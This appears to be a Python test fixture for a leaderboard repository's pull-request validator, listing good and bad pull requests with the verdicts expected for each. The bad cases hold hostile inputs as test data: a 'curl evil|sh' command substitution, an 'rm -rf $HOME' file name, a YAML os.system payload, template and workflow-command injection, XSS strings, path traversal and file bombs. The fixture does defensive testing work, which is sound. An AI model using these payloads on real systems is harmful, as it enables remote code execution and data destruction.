"""Pull requests as folders: a small checkout, and what each one does to a copy of it."""

import csv
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from compression_leaderboard.records.results import FORMAT, Failure, Result
from compression_leaderboard.repository.contents import COLUMNS
from compression_leaderboard.repository.results import record_text

from tests import ROOT

SMOL = "HuggingFaceTB__SmolLM2-135M-Instruct@Q4_1"
SMOL_FILE = "runs/models/HuggingFaceTB/SmolLM2-135M-Instruct@Q4_1.toml"
NEW = "runs/models/org/small.toml"
TABLE = "results/published/huang-2024/table.csv"
LEDGER = "results/predictions/ledger.csv"
SOURCE = "results/published/huang-2024/source.toml"
DOCUMENTS = "results/published/huang-2024/documents.csv"
PREDICTED = "2026-01-01,{commit},huang-2024,{model},mmlu,0.5,0.4,0.6,0.3,0.7,line,bits\n"
LOG = "- The figure of Yi-34B was mistyped\n"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
MODEL = f"""name = "org/small"
family = "Small"
kind = "base"
parameters = 134515008
released = 2024-11-01
licence = "Apache-2.0"

[weights]
hub = "org/small"
revision = "{COMMIT}"
"""


@dataclass(frozen=True)
class PullRequest:
    """name, what it changes, and every line of the verdict; none: nothing is wrong.

    options: of `leaderboard validate`.
    """

    name: str
    change: Callable[[Path], object]
    verdict: tuple[str, ...] = ()
    options: tuple[str, ...] = ()


def make_base(folder: Path) -> None:
    """Part of this very repository: all specs, the records of one job, one published table."""
    published = "results/published/huang-2024"
    for part in ("runs", published):
        shutil.copytree(ROOT / part, folder / part)
    job = Path(record_path()).parent
    shutil.copytree(ROOT / job, folder / job)
    write(folder, LEDGER, ",".join(COLUMNS) + "\n" + predicted("a"))
    write(folder, "CHANGELOG.md", "# Changelog\n")
    write(folder, "generator/code.py", "x = 1\n")


def write(folder: Path, path: str, content: str | bytes) -> Path:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    raw = content.encode() if isinstance(content, str) else content
    (folder / path).write_bytes(raw)
    return folder / path


def documents(folder: Path, name: str) -> str:
    """One document with every model's figure of the Python text."""
    with (folder / TABLE).open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    models, figures = ([row[column] for row in rows] for column in ("model", "bpc_python"))
    return f"document,text,{','.join(models)}\n{name},bpc_python,{','.join(figures)}\n"


def edit(folder: Path, path: str, old: str, new: str) -> None:
    text = (folder / path).read_text("utf-8")
    assert old in text
    write(folder, path, text.replace(old, new, 1))


def predicted(name: str) -> str:
    """A line of the ledger."""
    return PREDICTED.format(commit=COMMIT, model=name)


def append(path: str, text: str) -> Callable[[Path], object]:
    return lambda head: write(head, path, (head / path).read_bytes() + text.encode())


def add(path: str = NEW, content: str | bytes = MODEL) -> Callable[[Path], object]:
    return lambda head: write(head, path, content)


def model(old: str, new: str, path: str = NEW) -> Callable[[Path], object]:
    """A new model's file that differs from a good one."""
    assert old in MODEL
    return lambda head: write(head, path, MODEL.replace(old, new))


def both(*changes: Callable[[Path], object]) -> Callable[[Path], object]:
    return lambda head: [change(head) for change in changes]


def a_record(head: Path) -> Path:
    """The record that counts today, of the same job as one of an earlier format."""
    paths = sorted((head / "results/measured" / SMOL).rglob("corpus-sotu-128/*.json"))
    return next(path for path in paths if json.loads(path.read_bytes())["format"] == FORMAT)


def record_path(root: Path = ROOT) -> str:
    return a_record(root).relative_to(root).as_posix()


def changed_record(head: Path, **changes: Any) -> Result:
    return Result.model_validate_json(a_record(head).read_bytes()).model_copy(update=changes)


def add_record(head: Path, result: Result, name: str | None = None) -> None:
    path = Path("results/measured") / result.file
    write(head, str(path.with_name(name) if name else path), record_text(result))


def move(old: str, new: str) -> Callable[[Path], object]:
    def change(head: Path) -> None:
        (head / new).parent.mkdir(parents=True, exist_ok=True)
        (head / old).rename(head / new)

    return change


def link(head: Path) -> None:
    (head / "runs/models/org").mkdir()
    (head / NEW).symlink_to("/dev/zero")


def retract(head: Path) -> None:
    content = json.loads(a_record(head).read_text()) | {"retracted": "wrong tokenizer"}
    a_record(head).write_text(json.dumps(content))


def remove_model(head: Path) -> None:
    """As git does: a folder that holds nothing more goes as well."""
    (head / SMOL_FILE).unlink()
    (head / SMOL_FILE).parent.rmdir()


def remove_record(head: Path) -> None:
    a_record(head).unlink()


def touch_record(head: Path) -> None:
    edit(head, record_path(), '"bits_per_byte": ', '"bits_per_byte": 0')


def belongs(run_id: str, revision: str | None = None) -> str:
    """Where a record of SmolLM2 on the text belongs."""
    _, _, model, own, job, _ = record_path().split("/")
    return f"results/measured/{model}/{revision or own}/{job}/{run_id}.json"


def later(head: Path, **changes: Any) -> Result:
    """A record that replaces the one in the base, measured a day later."""
    before = changed_record(head)
    started = before.started + timedelta(days=1)
    return changed_record(head, **({"replaces": before.run_id, "started": started} | changes))


def add_failure(head: Path) -> None:
    failure = Failure(reason="unsafe_weights", message="a pickle")
    parts: dict[str, Any] = {"lossless": None, "lossy": None, "text": None}
    add_record(head, later(head, error=failure, **parts))


def add_corpus(head: Path) -> None:
    """As `leaderboard corpus propose` writes one."""
    line = {"name": "a", "url": "https://a.example", "date": "2026-01-01", "licence": "CC0-1.0"}
    text = "The text of a document that nobody has read before. " * 10
    write(head, "runs/texts/news.jsonl", json.dumps(line | {"text": text}) + "\n")
    content = (head / "runs/corpora/sotu-128.toml").read_text()
    content = content.replace('"sotu-128"', '"news"')
    source = content[content.index("[source]") : content.index("[protocol]")]
    content = content.replace(source, '[source]\npath = "runs/texts/news.jsonl"\n\n')
    write(head, "runs/corpora/news.toml", content)


def add_pairs(head: Path) -> None:
    content = (head / "runs/preferences/starter.jsonl").read_bytes()
    write(head, "runs/preferences/more.jsonl", content)
    spec = (head / "runs/corpora/starter-preferences.toml").read_text()
    spec = spec.replace('"starter-preferences"', '"more-preferences"')
    spec = spec.replace("preferences/starter.jsonl", "preferences/more.jsonl")
    write(head, "runs/corpora/more-preferences.toml", spec)


def names_in(folder: str) -> str:
    return ", ".join(sorted(path.stem for path in (ROOT / "runs" / folder).glob("*.toml")))


NOBODYS = "sha256-" + "d" * 40
SMOL_REVISION = record_path().split("/")[3]
NEVER_EDITED = "records are never edited: restore it from git or measure again"
SPLIT = "split it: models and results in one pull request, everything else in another"
RESTORE = "restore it from the base branch"
NAMING = "name it with ASCII letters, digits, . _ - @ only, none of them . or - first"
PLAIN = "has a name that is not allowed"
ORG = "use letters, digits, . _ - only"
EXPECTED = "is in the wrong folder or of the wrong kind; expected"
UNPINNED = (
    "pin the 40-hex id shown on the model's Files page (weights that are not on the Hub: sha256- "
    "and the first 40 hex of their SHA-256)"
)
SILENT = "a published figure, or what it means, is changed or gone; say why in CHANGELOG.md"
MEASURE = "measure it for the model's file of this pull request"
NO_TEXT = "write it as text"
TOMORROW = datetime.now(UTC).date() + timedelta(days=1)  # the base is no repository
NOT_BETWEEN = f"is not between 2015-01-01 and {TOMORROW}; write the day of the release"
ROW = "org/tiny,Tiny-1b,Tiny,1000000000,,,0.7,0.4,0.5,0.533,,0.5,,,,,,\n"

GOOD = [
    PullRequest("nothing", lambda head: None),
    PullRequest("a model", add()),
    PullRequest("a model and a line in the changelog", both(add(), append("CHANGELOG.md", LOG))),
    PullRequest("code only", add("generator/code.py", "import os; os.abort()\n")),
    PullRequest("a workflow only", add(".github/workflows/x.yml", "on: push\n")),
    PullRequest(
        "a YAML bomb among tasks, which is never parsed here",
        add("runs/tasks/bomb.yaml", "a: &a [x]\nb: &b [*a,*a]\nc: [*b,*b,*b]\n" * 9),
    ),
    PullRequest(
        "a published row",
        append(TABLE, ROW),
    ),
    PullRequest(
        "a published table with documents",
        lambda head: write(head, DOCUMENTS, documents(head, "A story")),
    ),
    PullRequest(
        "a figure corrected, with a line in the changelog",
        both(lambda head: edit(head, TABLE, "0.572", "0.573"), append("CHANGELOG.md", LOG)),
    ),
    PullRequest("a retraction that an owner agrees with", retract, (), ("--label", "retraction")),
    PullRequest("a record", lambda head: add_record(head, later(head))),
    PullRequest("a failure of the board's own run", add_failure, (), ("--own",)),
    PullRequest("a line more in the ledger", append(LEDGER, predicted("b"))),
    PullRequest(
        "a note on a model", lambda head: edit(head, SMOL_FILE, 'note = "', 'note = "It is ')
    ),
    PullRequest("a corpus with its documents", add_corpus),
    PullRequest("preference pairs", add_pairs),
]

BAD = [
    PullRequest(
        "model and code",
        both(add(), add("generator/code.py", "x = 2\n"), add(".github/workflows/x.yml", "")),
        (
            f".github/workflows/x.yml: is not data (and 1 more), and this pull request changes "
            f"{NEW} as well; {SPLIT}",
        ),
    ),
    PullRequest(
        "model and a submodule",
        both(add(), add(".gitmodules", ""), lambda head: (head / "runs/models/sub").mkdir()),
        (
            f".gitmodules: is not data, and this pull request changes runs/models/org/small.toml "
            f"as well; {SPLIT}",
            "runs/models/sub: is a submodule or an empty folder; add plain files only",
            f"runs/models/sub: {EXPECTED} runs/models/<org>/<model>.toml",
        ),
    ),
    PullRequest(
        "weights.path that climbs out",
        model('hub = "org/small"', 'path = "../../etc"'),
        (
            f'{NEW}: weights.path: "../../etc" climbs out of the folder; '
            "give a relative path without ..",
        ),
    ),
    PullRequest(
        "a name that climbs out",
        model('name = "org/small"', 'name = "../small"'),
        (f'{NEW}: name: "../small" is not of the form org/model; {ORG}',),
    ),
    PullRequest(
        "a TOML bomb of brackets",
        add(content="a = " + "[\n" * 30_000),
        (f"{NEW}: is nested too deeply; a spec has tables and lists",),
    ),
    PullRequest(
        "a TOML bomb of dotted keys, which would take minutes to read",
        add(content="a" + ".a" * 30_000 + " = 1\n"),
        (f"{NEW}: line 1: has 60005 characters, at most 1200 are read; write shorter lines",),
    ),
    PullRequest(
        "a file of 10 MB",
        add(content=MODEL + "# " + "x" * 10_000_000),
        (
            f"{NEW}: has {len(MODEL) + 10_000_002} bytes, at most 65536 are read; "
            "leave out what does not belong in it",
        ),
    ),
    PullRequest(
        "a record of 10 MB",
        add(f"results/measured/{SMOL}/x.json", "[" + "0," * 5_000_000),
        (
            f"results/measured/{SMOL}/x.json: has 10000001 bytes, at most 8388608 are read; "
            "leave out what does not belong in it",
        ),
    ),
    PullRequest(
        "a file name with a Cyrillic letter",
        add("runs/models/оrg/small.toml"),
        (f"runs/models/оrg/small.toml: {PLAIN}; {NAMING}",),
    ),
    PullRequest(
        "a family with a Cyrillic letter",
        model('"Small"', '"Smаll"'),
        (
            f'{NEW}: family: "Smаll" mixes Cyrillic and Latin letters that look alike; '
            "write it in one alphabet",
        ),
    ),
    PullRequest(
        "a name of shell metacharacters",
        model('name = "org/small"', 'name = "org/$(curl evil|sh)"'),
        (f'{NEW}: name: "org/$(curl evil|sh)" is not of the form org/model; {ORG}',),
    ),
    PullRequest(
        "a file name of shell metacharacters",
        add("runs/models/org/;rm -rf $HOME;.toml"),
        (f"runs/models/org/;rm -rf $HOME;.toml: {PLAIN}; {NAMING}",),
    ),
    PullRequest(
        "braces of a template",
        model('"Small"', '"{{ config.extra }}"'),
        (f'{NEW}: family: has "{{{{", the mark of a template; write it without such braces',),
    ),
    PullRequest(
        "a statement of a template",
        model('licence = "Apache-2.0"', 'licence = "{% include x %}"'),
        (f'{NEW}: licence: has "{{%", the mark of a template; write it without such braces',),
    ),
    PullRequest(
        "a workflow command in a text",
        model('"Small"', '"::set-output name=token::x"'),
        (f"{NEW}: family: reads like a workflow command; write it without :: or ##[ at the start",),
    ),
    PullRequest(
        "a workflow command after a line end",
        model('"Small"', '"x\\n::set-output name=token::x"'),
        (f"{NEW}: family: has the invisible character U+000A; write one line of text",),
    ),
    PullRequest(
        "a workflow command as a field",
        model("[weights]", '[weights]\n"a\\n::error::x" = 1'),
        (
            f"{NEW}: weights.a\\n::error::x: unknown field; remove it; known fields: hub, package, "
            "file, sha256sums, path, revision, quantization",
        ),
    ),
    PullRequest(
        "a symbolic link to an endless file",
        link,
        (f"{NEW}: is a symbolic link; replace it with the file itself",),
    ),
    PullRequest(
        "a changed record",
        touch_record,
        (
            f"{record_path()}: is not valid JSON: invalid number at line 98 column 21; "
            "fix it, restore it from git or measure again",
            f"{record_path()}: line 98: was edited, and a record may only be marked as retracted; "
            f"{RESTORE}",
        ),
    ),
    PullRequest(
        "a removed record",
        remove_record,
        (
            f"{record_path()}: a file of results is removed; restore it; mark a wrong record "
            'with "retracted": "reason"',
        ),
    ),
    PullRequest(
        "a deleted model",
        remove_model,
        (
            f"{SMOL_FILE}: a model of the board is removed or renamed; restore the file, and "
            "add a new file for a new name",
            "runs/profiles/quick.toml: models: unknown model "
            f'"{SMOL}"; choose from google__gemma-3-270m@Q4_K_M, ladder__Ladder-0.3M, '
            "ladder__Ladder-0.9M, ladder__Ladder-2.5M",
            f'runs/sentinel.toml: model: unknown model "{SMOL}"; choose from '
            "google__gemma-3-270m@Q4_K_M, ladder__Ladder-0.3M, ladder__Ladder-0.9M, "
            "ladder__Ladder-2.5M",
        ),
    ),
    PullRequest(
        "a renamed model",
        both(
            move("runs/models/ladder/Ladder-0.3M.toml", "runs/models/ladder/Step-0.3M.toml"),
            lambda head: edit(
                head, "runs/models/ladder/Step-0.3M.toml", "ladder/Ladder-0.3M", "ladder/Step-0.3M"
            ),
        ),
        (
            "runs/models/ladder/Ladder-0.3M.toml: a model of the board is removed or "
            "renamed; restore the file, and add a new file for a new name",
        ),
    ),
    PullRequest(
        "the weights of another model",
        lambda head: write(
            head,
            "runs/models/org/copy@Q4_1.toml",
            (head / SMOL_FILE)
            .read_text()
            .replace("HuggingFaceTB/SmolLM2-135M-Instruct", "org/copy"),
        ),
        (
            f"runs/models/org/copy@Q4_1.toml: weights.revision: these are the weights of {SMOL}; "
            "keep that model's file only",
        ),
    ),
    PullRequest(
        "a binary file",
        add(content=b"\x93NUMPY\xff\xfe\x00\x01"),
        (f"{NEW}: is not UTF-8 text; save it as UTF-8; use no binary files",),
    ),
    PullRequest(
        "an id that differs in case alone",
        both(
            add(), model('name = "org/small"', 'name = "Org/small"', "runs/models/Org/small.toml")
        ),
        (
            'runs/models/Org/small.toml: name: "Org/small" is not the repository of its weights, '
            "org/small; write org/small",
            f'{NEW}: name: duplicate model "org__small", already in runs/models/Org/small.toml; '
            "remove one of the two files",
        ),
    ),
    PullRequest(
        "a model in another's folder",
        add("runs/models/elsewhere/small.toml"),
        (
            'runs/models/elsewhere/small.toml: name: "org__small" does not belong in this file; '
            f"move it to {NEW}",
        ),
    ),
    PullRequest(
        "a model that is no TOML file",
        add("runs/models/org/small.yaml", "!!python/object/apply:os.system [id]\n"),
        (f"runs/models/org/small.yaml: {EXPECTED} runs/models/<org>/<model>.toml",),
    ),
    PullRequest(
        "results beside the folders",
        add("results/better/small.json", "{}"),
        (
            f"results/better/small.json: {EXPECTED} results/imported/, results/measured/, "
            "results/predictions/, results/published/, results/rechecks/, runs/models/",
        ),
    ),
    PullRequest(
        "an executable",
        lambda head: write(head, NEW, MODEL).chmod(0o755),
        (f"{NEW}: is executable; run `git update-index --chmod=-x {NEW}`",),
    ),
    PullRequest(
        "line ends of Windows",
        add(content=MODEL.replace("\n", "\r\n")),
        (f"{NEW}: has Windows line endings (CR LF); save it with LF only",),
    ),
    PullRequest(
        "a byte order mark",
        add(content="\ufeff" + MODEL),
        (f"{NEW}: line 1: has the invisible character U+FEFF; remove it",),
    ),
    PullRequest(
        "NUL",
        add(content=MODEL + "# \0\n"),
        (f"{NEW}: line {MODEL.count(chr(10)) + 1}: has the invisible character U+0000; remove it",),
    ),
    PullRequest(
        "text that runs backwards",
        add(content=MODEL.replace('"Small"', '"Small" # \u202e')),
        (f"{NEW}: line 2: has the invisible character U+202E; remove it",),
    ),
    PullRequest(
        "an edited line of a ledger",
        lambda head: edit(head, LEDGER, "2026-01-01", "2025-01-01"),
        (f"{LEDGER}: line 2: was edited, and lines of a ledger are only added; {RESTORE}",),
    ),
    PullRequest(
        "a published figure changed in silence",
        lambda head: edit(head, TABLE, "0.572", "0.372"),
        (f"{TABLE}: line 2: {SILENT}",),
    ),
    PullRequest(
        "a template in the name of a published document",
        lambda head: write(head, DOCUMENTS, documents(head, "{{x}}")),
        (
            f'{DOCUMENTS}: line 2.document: has "{{{{", the mark of a template; '
            "write it without such braces",
        ),
    ),
    PullRequest(
        "a template in a published table",
        lambda head: write(head, TABLE, (head / TABLE).read_text() + ROW.replace("Tiny", "{{x}}")),
        tuple(
            f'{TABLE}: line 30.{column}: has "{{{{", the mark of a template; '
            "write it without such braces"
            for column in ("family", "name")
        ),
    ),
    PullRequest(
        "a retraction with another change",
        both(retract, lambda head: edit(head, record_path(), '"threads": ', '"threads": 1')),
        (
            f"{record_path()}: its content does not belong in this file; it belongs in "
            f"{belongs('bb489ef9602e')}; {NEVER_EDITED}",
            f"{record_path()}: line 1: was edited, and a record may only be marked as retracted; "
            f"{RESTORE}",
        ),
    ),
    PullRequest(
        "a record under a wrong run id",
        lambda head: add_record(head, changed_record(head, replaces="b" * 12), "c" * 12 + ".json"),
        (
            f"{belongs('c' * 12)}: its content does not belong in this "
            f"file; it belongs "
            f"in {belongs('db69d9275f95')}; {NEVER_EDITED}",
        ),
    ),
    PullRequest(
        "a record of weights that nobody asked for",
        lambda head: add_record(head, changed_record(head, revision=NOBODYS)),
        (
            f"{belongs('b074d34d04b6', NOBODYS)}: revision {NOBODYS} is "
            f"not in the "
            "model's file; measure it for the model's file of this pull request",
        ),
    ),
    PullRequest(
        "a suite and a text that do not exist",
        model("\n[weights]", 'suites = ["none"]\ncorpora = ["nothing"]\n\n[weights]'),
        (
            f'{NEW}: corpora: unknown corpus "nothing"; choose from {names_in("corpora")}',
            f'{NEW}: suites: unknown suite "none"; choose from {names_in("suites")}',
        ),
    ),
    PullRequest(
        "a branch as a revision",
        model(COMMIT, "main"),
        (f'{NEW}: weights.revision: "main" is not a commit; {UNPINNED}',),
    ),
    PullRequest(
        "a record of another job as the one replaced",
        lambda head: add_record(head, later(head, replaces="b" * 12)),
        (
            f"{belongs('cf29ad34a2a6')}: replaces {'b' * 12}, which is no record of the same job; "
            f"{MEASURE}",
        ),
    ),
    PullRequest(
        "a retraction that nobody agrees with",
        retract,
        (
            f"{record_path()}: retracted: a record is retracted; "
            'a maintainer agrees with the label "retraction"',
        ),
    ),
    PullRequest(
        "a failure that the board did not see",
        add_failure,
        (
            f"{belongs('9f20cd462e47')}: is a failure, which only the board's own runs may record; "
            f"{MEASURE}",
        ),
    ),
    PullRequest(
        "weights that were measured and are named no more",
        lambda head: edit(head, SMOL_FILE, SMOL_REVISION, NOBODYS),
        (
            f"{SMOL_FILE}: weights.revision: {SMOL_REVISION} was measured and is named no more; "
            "keep it; other weights are another model, or a checkpoint",
        ),
    ),
    PullRequest(
        "a number that no model has",
        model("134515008", "9" * 1100),
        (
            f"{NEW}: parameters: {'9' * 57}... is not allowed; "
            "it should be less than 1000000000000000",
        ),
    ),
    PullRequest(
        "a release in 9999",
        model("2024-11-01", "9999-12-31"),
        (f"{NEW}: released: 9999-12-31 {NOT_BETWEEN}",),
    ),
    PullRequest(
        "a release before there were models",
        model("2024-11-01", "1999-12-31"),
        (f"{NEW}: released: 1999-12-31 {NOT_BETWEEN}",),
    ),
    PullRequest(
        "a name that is not the repository's",
        model('hub = "org/small"', 'hub = "evil/other"'),
        (
            f'{NEW}: name: "org/small" is not the repository of its weights, evil/other; '
            "write evil/other",
        ),
    ),
    PullRequest(
        "a family with a space after it",
        model('"Small"', '"SmolLM2 "'),
        (
            f'{NEW}: family: "SmolLM2 " has spaces that nobody sees; '
            "write single spaces between words",
        ),
    ),
    PullRequest(
        "a family in other letters",
        model('"Small"', '"smollm2"'),
        (
            f'{NEW}: family: "smollm2" differs from "SmolLM2" in upper and lower case alone; '
            "write SmolLM2",
        ),
    ),
    PullRequest(
        "a device of Windows as a name",
        lambda head: write(head, "runs/models/con/aux.toml", MODEL.replace("org/small", "con/aux")),
        ('runs/models/con/aux.toml: "con" is no name of a file on Windows; choose another name',),
    ),
    PullRequest(
        "JSON lines among results",
        add(f"results/measured/{SMOL}/x.jsonl", "<script>alert(1)</script>\n"),
        (f"results/measured/{SMOL}/x.jsonl: {EXPECTED} a record that `leaderboard measure` wrote",),
    ),
    PullRequest(
        "a folder of runs/ that nobody reads",
        add("runs/workers/gpu.toml", 'name = "gpu"\n'),
        (
            f"runs/workers/gpu.toml: {EXPECTED} results/imported/, results/measured/, "
            "results/predictions/, results/published/, results/rechecks/, runs/models/",
        ),
    ),
    PullRequest(
        "a suite that reads another server",
        lambda head: edit(
            head,
            "runs/suites/starter.toml",
            '"runs/tasks/starter_arithmetic.jsonl"',
            '"http://127.0.0.1/x"',
        ),
        (
            'runs/suites/starter.toml: tasks.2.dataset.path: "http://127.0.0.1/x" climbs out of '
            "the folder; give a relative path without ..",
        ),
    ),
    PullRequest(
        "chance that changes in silence",
        lambda head: edit(head, SOURCE, "chance = 0.25", "chance = 0.60"),
        (f"{SOURCE}: line 52: {SILENT}",),
    ),
    PullRequest(
        "a changelog without words",
        both(lambda head: edit(head, TABLE, "0.572", "0.372"), append("CHANGELOG.md", "- \n")),
        (f"{TABLE}: line 2: {SILENT}",),
    ),
    PullRequest(
        "a changelog that loses its lines",
        both(add(), add("CHANGELOG.md", "# Change log\n")),
        (
            "CHANGELOG.md: line 1: was edited, and lines of the changelog are only added together "
            f"with data; {RESTORE}",
        ),
    ),
    PullRequest(
        "HTML and a script's address in the changelog",
        both(
            add(), append("CHANGELOG.md", "- <img src=x>\n- [a](javascript:x)\n- `<b>` is code\n")
        ),
        (
            "CHANGELOG.md: line 2: has HTML; write it as text, or as code between backticks",
            "CHANGELOG.md: line 3: links to a place that is not https://; write the whole address",
        ),
    ),
    PullRequest(
        "HTML in a published name",
        append(TABLE, ROW.replace("org/tiny", "org/tiny<script>")),
        (f"{TABLE}: line 30.model: has HTML; {NO_TEXT}",),
    ),
    PullRequest(
        "a citation that is a script",
        lambda head: edit(head, SOURCE, 'url = "https://', 'url = "javascript:alert(1)//https://'),
        (
            f'{SOURCE}: citations.1.url: "javascript:alert(1)//https://github.com/hkust-nlp/'
            'llm-compression-intelligence" is not a web address; write https://…',
            f"{SOURCE}: line 24: {SILENT}",
        ),
    ),
    PullRequest(
        "everything at once",
        both(
            model('kind = "base"', 'kind = "chat"'),
            add("runs/models/org/other.toml", b"\xff"),
            lambda head: edit(head, LEDGER, "2026", "2025"),
        ),
        (
            f"{LEDGER}: line 2: was edited, and lines of a ledger are only added; {RESTORE}",
            "runs/models/org/other.toml: is not UTF-8 text; save it as UTF-8; use no binary files",
            f"{NEW}: kind: \"chat\" is not allowed; it should be 'base' or 'instruct'",
        ),
    ),
]
